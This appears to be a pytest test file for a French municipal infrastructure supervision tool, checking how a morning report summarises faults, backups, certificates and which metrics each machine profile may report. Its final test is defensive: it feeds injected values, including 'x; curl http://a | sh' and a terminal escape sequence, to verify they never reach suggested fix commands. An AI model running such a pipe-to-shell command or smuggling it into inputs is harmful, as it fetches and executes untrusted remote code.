"""What is wrong comes first, of every machine, even of one that lies; and the morning after knows of this one."""

from __future__ import annotations

import datetime as dt
import subprocess
from pathlib import Path
from typing import Any

import pytest

from creatic.morning import screen
from creatic.registry import groupement
from creatic.supervision import figures

REPO = Path(__file__).parents[3]
MOMENT = dt.datetime(2026, 11, 28, 7, 30, tzinfo=dt.UTC)
MACHINES = {"sae1": "", "gondecourt-connecteur": "gondecourt"}
PROFILES = {"sae1": "archive_node", "gondecourt-connecteur": "tdt_connector"}


def report(**changes: Any) -> dict[str, Any]:
    whole = {
        "maintenant": MOMENT.timestamp(),
        "mesures": ['tdt_connector_deposits{etat="acquitte"} 7\n'],
        "illisibles": [],
        "unites": [],
        "disques": [{"point": "/", "plein": 40}],
        "a_l_heure": True,
        "redemarrage": False,
    }
    return {"rapport": whole | changes}


def state(**changes: Any) -> dict[str, Any]:
    commune = {"slug": "gondecourt", "nom": "Gondecourt <b>", "vague": 2, "territoire": "Lille", "taille": "moyenne"}
    hosts = {name: {"deploye": True} for name in ("gondecourt-connecteur", "gondecourt-pc")}
    whole = {"commune": commune, "passage": "p", "hotes": hosts, "equipee": True, "prete": True, "dernier": None}
    return {"gondecourt": whole | changes}


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """Records of today, of each kind."""
    for folder in ("audits", "exercices", "correctifs", "evidence"):
        (tmp_path / folder / "2026-11-28T070000Z").mkdir(parents=True)
    return tmp_path


def looked(
    home: Path, answers: dict[str, Any], moment: dt.datetime = MOMENT, profiles: dict[str, str] | None = None
) -> screen.Morning:
    return screen.look(home, MACHINES, answers, state(), moment, profiles=profiles or PROFILES)


def good() -> dict[str, Any]:
    return {name: report() for name in MACHINES}


def test_nothing_is_wrong(home: Path) -> None:
    found = looked(home, good())
    assert found.findings == [] and found.answered == (2, 2)
    assert screen.headline(found) == "Rien à signaler."


@pytest.mark.parametrize(
    ("changes", "grave", "text"),
    [
        ({"unites": ["nginx.service"]}, 1, "« nginx.service » en échec"),
        ({"disques": [{"point": "/srv", "plein": 91}]}, 1, "disque « /srv » plein à 91 %"),
        ({"disques": [{"point": "/srv", "plein": 85}]}, 0, "disque « /srv » plein à 85 %"),
        ({"a_l_heure": False}, 0, "horloge non synchronisée"),
        ({"maintenant": MOMENT.timestamp() - 31_536_000}, 1, "horloge à 365 jours de celle d'ici"),
        ({"redemarrage": True}, 0, "un redémarrage est demandé par Debian"),
        ({"illisibles": ["a.prom"]}, 0, "mesures illisibles : « a.prom »"),
        ({"mesures": ["creatic_aide_differences 3"]}, 1, "3 fichiers diffèrent de la référence (AIDE)"),
    ],
)
def test_a_machine_s_fault_is_told_of_its_commune(home: Path, changes: dict[str, Any], grave: int, text: str) -> None:
    found = looked(home, good() | {"gondecourt-connecteur": report(**changes)})
    [one] = found.findings
    assert (found.grave, one.commune, one.machine, one.text) == (grave, "gondecourt", "gondecourt-connecteur", text)
    assert one.fix


@pytest.mark.parametrize(
    "answer",
    [
        None,
        {},
        [],
        {"rapport": None},
        {"rapport": {}},
        report(unites=None),
        report(maintenant="hier"),
        report(maintenant=10**400),
        report(mesures=3),
        report(disques=[{"point": "/"}]),
        report(disques=[{"point": "/", "plein": "x"}]),
        {"raison": "éteinte"},
    ],
)
def test_a_machine_that_says_nothing_or_nonsense_keeps_no_other(home: Path, answer: Any) -> None:
    answers = good() | {"sae1": answer, "gondecourt-connecteur": report(unites=["a.service"])}
    found = looked(home, answers)
    assert [(one.machine, one.watched) for one in found.findings] == [("sae1", False), ("gondecourt-connecteur", False)]


def test_machines_without_an_answer_are_counted(home: Path) -> None:
    assert screen.headline(looked(home, {})) == "2 à traiter. 2 machines sur 2 sans réponse."
    assert screen.headline(looked(home, {"sae1": report()})).endswith(" 1 machine sur 2 sans réponse.")


def test_what_people_switch_off_is_watched_when_it_is_silent_only(home: Path) -> None:
    machines = {"gondecourt-pc": "gondecourt", "gondecourt-connecteur": "gondecourt"}
    for off in (True, False):
        answers = {name: {"raison": "l'hôte ne répond pas", "remede": "x", "eteinte": off} for name in machines}
        found = screen.look(home, machines, answers, state(), MOMENT, {"gondecourt-pc"})
        assert {one.machine: one.watched for one in found.findings} == {
            "gondecourt-pc": off,
            "gondecourt-connecteur": False,
        }


def test_what_was_never_deployed_is_watched(home: Path) -> None:
    one = groupement.load(REPO / "inventories/lab")[0]
    found = screen.look(home, {"neuve": one.slug, "sae1": ""}, {}, screen.states([one], {}), MOMENT)
    assert [(each.machine, each.watched, each.fix) for each in found.findings] == [
        ("sae1", False, "relancez ; sinon, son profil n'est pas déployé"),
        ("neuve", True, f"fab commune.deployer {one.slug}"),
    ]
    assert found.findings[1].text.startswith("jamais déployée, sans réponse : ")
    assert screen.states([one], {one.slug: {"passage": "p"}, "partie": {}}) == {one.slug: {"passage": "p"}}


def test_the_gravest_comes_first(home: Path) -> None:
    found = looked(home, {"sae1": report(redemarrage=True), "gondecourt-connecteur": report(unites=["a.service"])})
    assert [one.machine for one in found.findings] == ["gondecourt-connecteur", "sae1"]
    assert [row[0] for row in screen.lines(found)] == ["À TRAITER", "à surveiller"]


def test_the_next_morning_counts_what_was_done_since(home: Path) -> None:
    looked(home, good())
    assert looked(home, good()).acts == {}  # of the same day
    grown = report(mesures=['tdt_connector_deposits{etat="acquitte"} 12\ntdt_connector_refused{par="prefecture"} 0'])
    after = looked(home, good() | {"gondecourt-connecteur": grown}, MOMENT + dt.timedelta(days=1))
    assert (after.acts, after.since) == ({"gondecourt": 5}, "2026-11-28")


def test_what_an_entity_sent_counts_for_its_commune_and_its_faults_name_it(home: Path) -> None:
    def told(own: int, ccas: int, refused: int) -> dict[str, Any]:
        figures = f"""tdt_connector_deposits{{etat="acquitte"}} {own}
tdt_connector_deposits{{entite="gondecourt-ccas",etat="acquitte"}} {ccas}
tdt_connector_refused{{entite="gondecourt-ccas",par="prefecture"}} {refused}
"""
        return good() | {"gondecourt-connecteur": report(mesures=[figures])}

    looked(home, told(7, 3, 0))
    after = looked(home, told(8, 5, 1), MOMENT + dt.timedelta(days=1))
    assert after.acts == {"gondecourt": 3}
    [refusal] = [one for one in after.findings if "refus" in one.text]
    assert (refusal.machine, refusal.text.endswith("(« gondecourt-ccas »)")) == ("gondecourt-connecteur", True)


def test_a_machine_that_was_away_counts_from_its_last_word(home: Path) -> None:
    looked(home, good())
    looked(home, {"sae1": report()}, MOMENT + dt.timedelta(days=1))
    grown = report(mesures=['tdt_connector_deposits{etat="acquitte"} 9'])
    after = looked(home, good() | {"gondecourt-connecteur": grown}, MOMENT + dt.timedelta(days=2))
    assert after.acts == {"gondecourt": 2}


def test_a_damaged_snapshot_is_none_and_old_ones_go(home: Path) -> None:
    folder = home / screen.FOLDER
    folder.mkdir()
    for name in ("2026-11-27.json", "2025-01-01.json", "xxxx-xx-xx.json"):
        (folder / name).write_text("{")
    assert looked(home, good()).since == ""
    assert {path.name for path in folder.iterdir()} == {"2026-11-27.json", "2026-11-28.json", "xxxx-xx-xx.json"}


def test_records_that_are_too_old_are_told(home: Path) -> None:
    found = looked(home, good(), MOMENT + dt.timedelta(days=36))
    assert [(one.text, one.fix) for one in found.findings if not one.machine] == [
        ("derniers correctifs : il y a 36 jours", "fab correctifs")
    ]


def test_drills_of_the_control_node_are_asked(home: Path) -> None:
    (home / "metriques").mkdir()
    (home / "metriques" / "exercices.prom").write_text('creatic_drill_good{client="sae"} 0\n')
    [one] = looked(home, good()).findings
    assert (one.machine, one.watched) == ("poste de commande", False) and "sae" in one.text


def test_the_supervision_is_told_of_the_control_node_s_own_records(home: Path) -> None:
    """Drills and what is too old, judged by the same rules; a morning does not tell it again of that machine."""
    (home / "metriques").mkdir()
    (home / "metriques" / "exercices.prom").write_text('creatic_drill_good{client="sae"} 0\n')
    (home / "audits" / "2026-11-28T070000Z").rename(home / "audits" / "2026-06-01T070000Z")
    (home / "exercices" / "2026-11-28T070000Z").rmdir()
    text = screen.own_figures(home, MOMENT)
    done = subprocess.run(["promtool", "check", "metrics"], input=text, capture_output=True, text=True, check=False)
    assert "error" not in done.stderr, done.stderr
    told = [said for _, said, _ in figures.judge(figures.parse(text), {}, MOMENT.timestamp())]
    assert told == [
        "dernier exercice de restauration de « sae » en échec",
        "dernier audit : il y a 180 jours",
        "dernier exercice de restauration : jamais",
    ]
    fixes = [fix for _, _, fix in figures.judge(figures.parse(text), {}, MOMENT.timestamp())]
    assert fixes[1:] == ["fab audit", "fab sauvegarde.exercice tous"]
    late = MOMENT.timestamp() + 5 * 86400
    assert "fab matin n'est pas passé depuis 5 jours" in [
        said for _, said, _ in figures.judge(figures.parse(text), {}, late)
    ]
    found = looked(home, good() | {"sae1": report(mesures=[text])})
    assert [one for one in found.findings if one.machine == "sae1"] == []


def test_what_a_machine_left_five_minutes_ago_is_not_told_beside_what_it_says_now(home: Path) -> None:
    old = 'creatic_machine_unit_failed{unite="a.service"} 1\ncreatic_machine_disk_percent{point="/"} 99\n'
    assert looked(home, good() | {"sae1": report(mesures=[old])}).findings == []


def test_ages_are_told_by_what_they_are_of(home: Path) -> None:
    now = MOMENT.timestamp()
    told = (
        'creatic_certificate_days_left{titulaire="pc"} 12\ncreatic_certificate_days_left{titulaire="ged"} 75\n'
        f'creatic_depot_last_transaction_timestamp_seconds{{client="ged"}} {now - 3 * 86400}\n'
        'creatic_depot_last_transaction_timestamp_seconds{client="neuf"} 0\n'
    )
    (home / "metriques").mkdir()
    (home / "metriques" / "exercices.prom").write_text(
        f'creatic_drill_timestamp_seconds{{client="sae"}} {now - 20 * 86400}'
    )
    keeper = PROFILES | {"sae1": "backup_server"}
    assert screen.by_age(looked(home, good() | {"sae1": report(mesures=[told])}, profiles=keeper)) == [
        ("Certificats", "reste",
         [("moins de 30 j", 1), ("moins de 60 j", 0), ("moins de 90 j", 1), ("90 j et plus", 0)], "pc : 12 jours"),
        ("Sauvegardes", "âge", [("moins de 1 j", 0), ("moins de 2 j", 0), ("moins de 7 j", 1), ("7 j et plus", 0)],
         "ged : 3 jours"),
        ("Exercices de restauration", "âge",
         [("moins de 30 j", 1), ("moins de 60 j", 0), ("moins de 100 j", 0), ("100 j et plus", 0)], "sae : 20 jours"),
    ]  # fmt: skip # a line for each


def test_mails_that_wait_on_a_machine_are_told(home: Path) -> None:
    found = looked(home, good() | {"sae1": report(mesures=["creatic_machine_mails_waiting 101\n"])}).findings
    assert [(one.machine, one.text) for one in found] == [("sae1", "101 courriels attendent de partir")]


def test_a_machine_tells_what_its_profile_makes_alone(home: Path) -> None:
    """A connector that says that backups were erased, or that the archives are, is not heard; nor one of no profile."""
    lies = 'creatic_depot_suspect{client="sae1"} 1\nsae_fixite_anomalies 9\ncreatic_drill_good{client="ged"} 0\n'
    own = 'tdt_connector_contact_failing{entite="a",x="1"} 1\ntdt_connector_contact_failing{entite="a",x="2"} 1\n'
    answers = good() | {"gondecourt-connecteur": report(mesures=[lies + own])}
    assert [one.text for one in looked(home, answers).findings] == [
        "le tiers de télétransmission ne répond pas (« a »)"
    ]
    assert looked(home, answers, profiles={"sae1": "archive_node"}).findings == []
    keeper = good() | {"sae1": report(mesures=[lies])}
    [found] = looked(home, keeper, profiles=PROFILES | {"sae1": "backup_server"}).findings
    assert found.text == "sauvegardes de « sae1 » effacées ou remplacées"


@pytest.mark.parametrize(
    "word", ["x; curl http://a | sh", "a\x1b]52;c;AAAA\x07", "a\nÀ faire : b", "\u202egauche", "a » b"]
)
def test_no_word_of_a_machine_is_in_what_is_to_be_run(home: Path, word: str) -> None:
    answers = good() | {"sae1": report(unites=[word], disques=[{"point": word, "plein": 99}], illisibles=[word])}
    found = looked(home, answers).findings
    assert len(found) == 3
    for one in found:
        assert not any(part in one.fix for part in ("curl", "\x1b", "gauche")) and "\n" not in one.text + one.fix
        assert one.text.count("«") == one.text.count("»") == 1 and one.text.isprintable()
